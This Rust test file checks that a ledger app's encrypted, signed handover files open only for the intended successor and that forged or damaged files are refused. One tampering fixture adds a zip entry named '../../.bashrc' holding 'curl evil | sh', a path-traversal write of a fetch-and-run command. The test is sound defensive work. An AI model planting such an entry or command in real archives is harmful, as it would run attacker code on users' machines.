//! Handover files only the successor can open and nobody can forge: encrypted to a passphrase
//! or to the successor ledger's key, signed by the leaving ledger, checked before anything else.

use std::io::{Cursor, Read, Write};

use daicho_core::error::Coded;
use daicho_core::handover::{HandoverSelection, TakeOverRequest};
use daicho_core::output::Existing;

use super::handover::{signer_of, unseal, PASS};
use super::{ledger, organisation};

fn selection(id: &str, passphrase: Option<&str>, recipient: Option<String>) -> HandoverSelection {
    HandoverSelection {
        owner: None,
        card_ids: vec![id.into()],
        to_owner: "後任 花子".into(),
        passphrase: passphrase.map(Into::into),
        recipient,
        lend: false,
        lend_until: None,
    }
}

fn request(passphrase: Option<&str>, signer: &str) -> TakeOverRequest {
    TakeOverRequest {
        choices: vec![],
        confirmed_by: "後任 花子".into(),
        passphrase: passphrase.map(Into::into),
        signer: signer.into(),
        resolutions: vec![],
    }
}

#[test]
fn a_handover_file_reads_as_noise_and_opens_only_with_its_passphrase() {
    let mut a = ledger();
    let id = a
        .create_card(&organisation("北斗運輸株式会社 canary-h1", "ほくとうんゆ"))
        .unwrap()
        .id;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("h.daicho-handover");
    let e = a
        .handover_export(&selection(&id, None, None), &file, Existing::Refuse)
        .unwrap_err();
    assert_eq!(e.code(), "handover.no_protection");
    let e = a
        .handover_export(
            &selection(&id, Some("short"), None),
            &file,
            Existing::Refuse,
        )
        .unwrap_err();
    assert_eq!(e.code(), "handover.no_protection");
    let made = a
        .handover_export(&selection(&id, Some(PASS), None), &file, Existing::Refuse)
        .unwrap();
    assert_eq!(made.signer, a.identity_info().unwrap().fingerprint);
    let bytes = std::fs::read(&file).unwrap();
    assert!(memchr::memmem::find(&bytes, "北斗運輸".as_bytes()).is_none());
    assert!(memchr::memmem::find(&bytes, b"canary-h1").is_none());
    assert!(memchr::memmem::find(&bytes, b"manifest").is_none());

    let mut b = ledger();
    assert_eq!(
        b.take_over_preview(&file, None).unwrap_err().code(),
        "handover.needs_passphrase"
    );
    assert_eq!(
        b.take_over_preview(&file, Some("not the passphrase"))
            .unwrap_err()
            .code(),
        "handover.cannot_open"
    );
    let preview = b.take_over_preview(&file, Some(PASS)).unwrap();
    assert_eq!(preview.signer, made.signer);
    // Taking over needs the signer confirmed, and the right one.
    let e = b.take_over(&file, &request(Some(PASS), "")).unwrap_err();
    assert_eq!(e.code(), "handover.signer_not_confirmed");
    assert_eq!(e.report().params["found"], made.signer);
    let other = ledger().identity_info().unwrap().fingerprint;
    let e = b
        .take_over(&file, &request(Some(PASS), &other))
        .unwrap_err();
    assert_eq!(e.code(), "handover.other_signer");
    // As typed from the report: lower case, without spaces.
    let typed = made.signer.replace(' ', "").to_lowercase();
    assert!(
        b.take_over(&file, &request(Some(PASS), &typed))
            .unwrap()
            .applied
    );
}

#[test]
fn a_file_written_to_the_successors_key_opens_there_without_a_passphrase_and_nowhere_else() {
    let mut a = ledger();
    let id = a
        .create_card(&organisation("南海商事", "なんかいしょうじ"))
        .unwrap()
        .id;
    let mut b = ledger();
    let c = ledger();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("h.daicho-handover");
    let e = a
        .handover_export(
            &selection(&id, None, Some("age1notakey".into())),
            &file,
            Existing::Refuse,
        )
        .unwrap_err();
    assert_eq!(e.code(), "handover.bad_recipient");
    let made = a
        .handover_export(
            &selection(&id, None, Some(b.identity_info().unwrap().recipient)),
            &file,
            Existing::Refuse,
        )
        .unwrap();
    assert_eq!(
        c.take_over_preview(&file, None).unwrap_err().code(),
        "handover.cannot_open"
    );
    assert_eq!(
        c.take_over_preview(&file, Some(PASS)).unwrap_err().code(),
        "handover.cannot_open"
    );
    let record = b.take_over(&file, &request(None, &made.signer)).unwrap();
    assert_eq!(record.added, 1);
}

#[test]
fn an_unsigned_file_is_refused_before_anything_is_read() {
    let mut a = ledger();
    let id = a
        .create_card(&organisation("西日本物流", "にしにほんぶつりゅう"))
        .unwrap()
        .id;
    let dir = tempfile::tempdir().unwrap();
    let good = dir.path().join("h.daicho-handover");
    a.handover_export(&selection(&id, Some(PASS), None), &good, Existing::Refuse)
        .unwrap();
    let signer = signer_of(&good);
    let b = ledger();

    // The zip in the clear, as Daicho wrote handover files before they were signed.
    let plain = dir.path().join("plain.daicho-handover");
    std::fs::write(&plain, unseal(&good)).unwrap();
    assert_eq!(
        b.take_over_preview(&plain, Some(PASS)).unwrap_err().code(),
        "handover.unsigned"
    );

    // Encrypted as it should be, but with the signature taken out.
    let unsigned = dir.path().join("unsigned.daicho-handover");
    repacked(&good, &unsigned, |e| {
        e.retain(|(n, _)| n != "signature.json")
    });
    let mut b = b;
    let e = b
        .take_over(&unsigned, &request(Some(PASS), &signer))
        .unwrap_err();
    assert_eq!(e.code(), "handover.unsigned");
    assert_eq!(b.take_overs().unwrap().len(), 0);
}

/// The bundle's entries, changed by `change`, packed and sealed again with the passphrase.
fn repacked(
    good: &std::path::Path,
    out: &std::path::Path,
    change: impl Fn(&mut Vec<(String, Vec<u8>)>),
) {
    let mut zip = zip::ZipArchive::new(Cursor::new(unseal(good))).unwrap();
    let mut entries = Vec::new();
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).unwrap();
        entries.push((entry.name().unwrap().into_owned(), data));
    }
    change(&mut entries);
    let mut packed = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in &entries {
        packed
            .start_file(name.as_str(), zip::write::SimpleFileOptions::default())
            .unwrap();
        packed.write_all(data).unwrap();
    }
    super::handover::seal(out, &packed.finish().unwrap().into_inner());
}

fn edit(entries: &mut [(String, Vec<u8>)], name: &str, from: &str, to: &str) {
    let (_, data) = entries.iter_mut().find(|(n, _)| n == name).unwrap();
    let text = String::from_utf8(data.clone()).unwrap();
    assert!(text.contains(from), "{name} holds {from}");
    *data = text.replacen(from, to, 1).into_bytes();
}

/// What the reader says of a bundle changed in each way an attacker or a damaged disk would:
/// only the file as written opens, and each change is refused with the code that names it.
#[test]
fn each_change_to_a_handover_file_is_refused_with_its_own_code() {
    type Change = fn(&mut Vec<(String, Vec<u8>)>);
    let changes: [(&str, Change); 9] = [
        ("as written", |_| {}),
        ("the signature taken out", |e| {
            e.retain(|(n, _)| n != "signature.json")
        }),
        ("a customer's name changed in its table", |e| {
            edit(e, "tables/cards.json", "東邦商事", "東邦商事（偽）")
        }),
        ("the manifest edited after it was signed", |e| {
            edit(e, "manifest.json", "\"rows\"", "\"rows\" ")
        }),
        ("an entry the manifest does not list", |e| {
            e.push(("tables/extra.json".into(), b"[]".to_vec()))
        }),
        ("an entry that climbs out of the bundle", |e| {
            e.push(("../../.bashrc".into(), b"curl evil | sh".to_vec()))
        }),
        ("a listed table taken out", |e| {
            e.retain(|(n, _)| n != "tables/cards.json")
        }),
        ("the manifest taken out", |e| {
            e.retain(|(n, _)| n != "manifest.json")
        }),
        ("the signature made of noise", |e| {
            let (_, data) = e.iter_mut().find(|(n, _)| n == "signature.json").unwrap();
            *data = b"{\"noise\": true}".to_vec();
        }),
    ];
    let mut a = ledger();
    let id = a
        .create_card(&organisation("東邦商事", "とうほうしょうじ"))
        .unwrap()
        .id;
    let dir = tempfile::tempdir().unwrap();
    let good = dir.path().join("good.daicho-handover");
    a.handover_export(&selection(&id, Some(PASS), None), &good, Existing::Refuse)
        .unwrap();
    let b = ledger();
    let mut table = String::new();
    for (n, (what, change)) in changes.into_iter().enumerate() {
        let path = dir.path().join(format!("changed-{n}.daicho-handover"));
        repacked(&good, &path, change);
        let read = match b.take_over_preview(&path, Some(PASS)) {
            Ok(preview) => format!("opens, {} card(s)", preview.cards.len()),
            Err(e) => e.code().to_owned(),
        };
        table.push_str(&format!("{what}: {read}\n"));
    }
    expect_test::expect![[r#"
        as written: opens, 1 card(s)
        the signature taken out: handover.unsigned
        a customer's name changed in its table: handover.tampered
        the manifest edited after it was signed: handover.tampered
        an entry the manifest does not list: handover.tampered
        an entry that climbs out of the bundle: handover.tampered
        a listed table taken out: handover.corrupt
        the manifest taken out: handover.corrupt
        the signature made of noise: handover.tampered
    "#]]
    .assert_eq(&table);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(48))]

    /// A handover file changed anywhere — a byte flipped, cut short, bytes added — or bytes that
    /// never were one, is refused with a coded error before anything is read into the ledger;
    /// the reader never panics on it.
    #[test]
    fn a_changed_or_made_up_handover_file_is_refused_never_read(
        flips in proptest::collection::vec((0usize..1_000_000, 1u8..=255), 1..4),
        cut in proptest::option::of(0usize..1_000_000),
        noise in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..64),
    ) {
        use std::sync::OnceLock;
        // One real file, written once for every case: a card handed to b's ledger key.
        static MADE: OnceLock<(tempfile::TempDir, Vec<u8>)> = OnceLock::new();
        static TAKER: std::sync::Mutex<Option<daicho_core::Ledger>> = std::sync::Mutex::new(None);
        let mut taker = TAKER.lock().unwrap_or_else(|e| e.into_inner());
        let b = taker.get_or_insert_with(ledger);
        let recipient = b.identity_info().unwrap().recipient;
        let (dir, good) = MADE.get_or_init(|| {
            let mut a = ledger();
            let id = a.create_card(&organisation("東邦商事", "とうほうしょうじ")).unwrap().id;
            let dir = tempfile::tempdir().unwrap();
            let file = dir.path().join("good.daicho-handover");
            a.handover_export(&selection(&id, None, Some(recipient.clone())), &file, Existing::Refuse)
                .unwrap();
            let bytes = std::fs::read(&file).unwrap();
            (dir, bytes)
        });
        // The file as written is taken over (so a refusal below is the change's doing).
        static SOUND: OnceLock<()> = OnceLock::new();
        SOUND.get_or_init(|| {
            let path = dir.path().join("good.daicho-handover");
            assert!(b.take_over_preview(&path, None).is_ok());
        });
        let mut bytes = good.clone();
        for (at, with) in flips {
            let at = at % bytes.len();
            bytes[at] ^= with;
        }
        if let Some(cut) = cut {
            bytes.truncate(cut % bytes.len());
        }
        bytes.extend(noise);
        let path = dir.path().join("changed.daicho-handover");
        std::fs::write(&path, &bytes).unwrap();
        let refused = b.take_over_preview(&path, None);
        proptest::prop_assert!(refused.is_err());
        let code = refused.err().map(|e| e.code()).unwrap_or_default();
        proptest::prop_assert!(code.starts_with("handover."), "{code}");
    }
}
